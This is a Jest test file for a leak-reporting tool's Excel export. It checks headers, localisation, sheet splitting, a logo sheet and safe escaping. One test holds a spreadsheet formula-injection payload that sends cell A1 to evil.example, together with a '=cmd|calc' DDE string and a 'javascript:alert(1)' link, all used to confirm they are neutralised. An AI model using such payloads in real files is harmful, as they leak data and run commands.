import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { ReportEvent } from '@leakwatch/contracts';
import { pngWith } from '@leakwatch/testing';
import excel from 'exceljs';
import type { ReportOrigin } from './about-sheet.ts';
import { pendingBytes } from './pending-bytes.ts';
import { makeReportEvent } from './report-event.fixture.ts';
import { MAX_LINKS, openSheet } from './sheet.ts';
import { openWorkbook } from './workbook.ts';

const ORIGIN: ReportOrigin = { organisation: 'Romashka', logo: pngWith(256, 256), made: new Date('2026-11-24T12:00:00Z') };
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")';

describe('the file of a report', () => {
  let folder: string;
  beforeAll(() => void (folder = mkdtempSync(join(tmpdir(), 'leakwatch-workbook-'))));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const written = async (events: readonly ReportEvent[], locale: 'ru' | 'en' = 'en', sheetRows?: number, origin?: ReportOrigin) => {
    const path = join(folder, 'report.xlsx');
    const workbook = await openWorkbook(path, locale, origin, sheetRows);
    for (const event of events) workbook.add(event);
    await workbook.drained();
    await workbook.close();
    workbook.abort();
    const read = new excel.Workbook();
    await read.xlsx.readFile(path);
    return read;
  };
  const cellsOf = (sheet: excel.Worksheet | undefined, row: number) => sheet?.getRow(row).values;

  it('has a header in the language, in view and with a filter, and a row for each event', async () => {
    const event = makeReportEvent();
    const [sheet] = (await written([event, makeReportEvent({ status: 'false' })], 'ru')).worksheets;
    expect(sheet?.name).toBe('События');
    expect(sheet?.rowCount).toBe(3);
    expect(sheet?.getRow(1).getCell(1).value).toBe('ID');
    expect(sheet?.getRow(1).getCell(2).value).toBe('Статус');
    expect(sheet?.getRow(1).font.bold).toBe(true);
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.autoFilter).toBe('A1:Y3');
    expect(cellsOf(sheet, 2)).toEqual([
      undefined,
      event.id,
      'Открыто',
      'Git-репозиторий',
      'VPN',
      'romashka vpn',
      'prod, vpn',
      'romashka',
      'romashka/infra',
      'vpn.conf',
      { text: event.file_url, hyperlink: event.file_url },
      3,
      'INI',
      'password = hunter2',
      new Date(event.created),
      new Date(event.updated_at),
      new Date(event.last_seen),
      'c0ffee',
      'Ivan',
      new Date('2026-11-01T00:00:00.000Z'),
      'Высокая',
      'Password in settings',
      'irina',
      '2026-12-01',
      'Секрет отозван',
    ]);
  });

  it.each([
    ['en', 'About', ['Organisation', 'Romashka'], ['Events', 3]],
    ['ru', 'Об отчёте', ['Организация', 'Romashka'], ['Событий', 3]],
  ] as const)('has the logo of its organisation on a last sheet (%s)', async (locale, name, organisation, events) => {
    const found = [makeReportEvent(), makeReportEvent(), makeReportEvent()];
    const read = await written(found, locale, 2, ORIGIN);
    const plain = await written(found, locale, 2);
    expect(read.worksheets.map((sheet) => sheet.name)).toEqual([...plain.worksheets.map((sheet) => sheet.name), name]);
    expect(read.worksheets.slice(0, 2).map((sheet) => sheet.getSheetValues())).toEqual(
      plain.worksheets.map((sheet) => sheet.getSheetValues()),
    );
    const about = read.worksheets.at(-1);
    const [placed] = about?.getImages() ?? [];
    expect(placed?.range).toMatchObject({ tl: { nativeCol: 0, nativeRow: 0 }, ext: { width: 96, height: 96 } });
    expect(read.getImage(Number(placed?.imageId)).buffer).toEqual(ORIGIN.logo);
    const lines = [7, 8, 9].map((row) => [about?.getCell(row, 1).value, about?.getCell(row, 2).value]);
    expect(lines).toEqual([organisation, [expect.any(String), ORIGIN.made], events]);
    expect(readdirSync(folder)).toEqual(['report.xlsx']);
  });

  it('holds no formula, whatever an event says', async () => {
    const hostile = {
      pattern: HOSTILE,
      task_name: '+1',
      username: '-1',
      repo_name: '@SUM(A1)',
      file_path: '\t=1',
      file_lang: '\r=1',
      content: HOSTILE,
      commit_author: '=1',
      commit: '=2',
      filter_keywords: ['=1+1'],
      assignee: '=1',
      file_url: '=cmd|calc',
    };
    const [sheet] = (await written([makeReportEvent(hostile)])).worksheets;
    const found: unknown[] = [];
    sheet?.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === excel.ValueType.Formula || cell.formula !== undefined) found.push(cell.address);
        if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)) found.push(cell.value);
      }),
    );
    expect(found).toEqual([]);
    expect(sheet?.getRow(2).getCell(13).value).toBe(`'${HOSTILE}`);
    expect(sheet?.getRow(2).getCell(10).value).toBe("'=cmd|calc");
  });

  it('links only to http and https, and is valid whatever characters an event has', async () => {
    const content = '</t></is></c><c t="str"><f>1+1</f>\u0000\u0008\ud800 ]]> & 🔑';
    const events = [makeReportEvent({ file_url: 'javascript:alert(1)', content }), makeReportEvent({ file_url: '' })];
    const [sheet] = (await written(events)).worksheets;
    expect(sheet?.getRow(2).getCell(10).value).toBe('javascript:alert(1)');
    expect(sheet?.getRow(3).getCell(10).value).toBeNull();
    expect(sheet?.getRow(2).getCell(13).value).toBe('</t></is></c><c t="str"><f>1+1</f>\ufffd\ufffd\ufffd ]]> & 🔑');
  });

  it('continues on the next sheet when one is full', async () => {
    const events = Array.from({ length: 5 }, (_, line) => makeReportEvent({ line }));
    const { worksheets } = await written(events, 'en', 2);
    expect(worksheets.map(({ name, rowCount }) => [name, rowCount])).toEqual([
      ['Events', 3],
      ['Events 2', 3],
      ['Events 3', 2],
    ]);
    expect(worksheets[2]?.getRow(2).getCell(1).value).toBe(events[4]?.id);
    expect(worksheets.map(({ autoFilter }) => autoFilter)).toEqual(['A1:Y3', 'A1:Y3', 'A1:Y2']);
  });

  it('is valid without events', async () => {
    const [sheet] = (await written([])).worksheets;
    expect(sheet?.rowCount).toBe(1);
  });

  it('rejects when a file cannot be written, and does not end the process', async () => {
    const workbook = await openWorkbook(join(folder, 'no', 'such', 'folder'), 'en', undefined);
    workbook.add(makeReportEvent());
    await expect(workbook.close()).rejects.toThrow('ENOENT');
    workbook.abort();
  });

  it('reports the number of bytes that wait for compression', async () => {
    const path = join(folder, 'pending.xlsx');
    const writer = new excel.stream.xlsx.WorkbookWriter({ filename: path });
    const sheet = openSheet(writer, 'en', 1);
    // The library begins to compress when nothing else is to be done.
    await new Promise((resolve) => setTimeout(resolve, 50));
    for (let row = 0; row < 100; row += 1) sheet.add(makeReportEvent({ content: 'x'.repeat(10_000) }));
    expect(pendingBytes(sheet.stream)).toBeGreaterThan(500_000);
    sheet.close();
    await writer.commit();
    expect(readFileSync(path).length).toBeGreaterThan(1000);
  });

  it('has no more links than programs open', async () => {
    const writer = new excel.stream.xlsx.WorkbookWriter({ filename: join(folder, 'links.xlsx') });
    const sheet = openSheet(writer, 'en', 1);
    for (let row = 0; row < MAX_LINKS + 2; row += 1) sheet.add(makeReportEvent({ content: '' }));
    const rels: unknown = Reflect.get(Reflect.get(writer, '_worksheets')[1], '_sheetRelsWriter');
    expect(rels).toMatchObject({ count: MAX_LINKS });
    sheet.close();
    await writer.commit();
  });
});
